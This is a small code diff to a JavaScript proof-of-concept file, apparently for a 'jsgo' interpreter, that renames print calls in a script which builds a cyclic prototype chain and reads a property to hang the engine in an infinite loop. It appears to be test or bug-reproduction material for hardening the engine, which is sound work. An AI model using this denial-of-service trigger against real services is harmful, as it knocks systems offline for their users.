@@ -5,13 +5,13 @@
 // Usage: ./jsgo exploits/dos_crash.js
 // Expected: process hangs (infinite loop in Object.Get)
 
-_print("[*] Creating prototype cycle...");
+host.print("[*] Creating prototype cycle...");
 var a = {};
 var b = {};
 Object.setPrototypeOf(a, b);
 Object.setPrototypeOf(b, a);
 
-_print("[*] Triggering infinite loop via property access...");
-_print("[*] The process will hang here:");
+host.print("[*] Triggering infinite loop via property access...");
+host.print("[*] The process will hang here:");
 a.anything; // infinite loop -- never returns
-_print("[-] This line is never reached");
+host.print("[-] This line is never reached");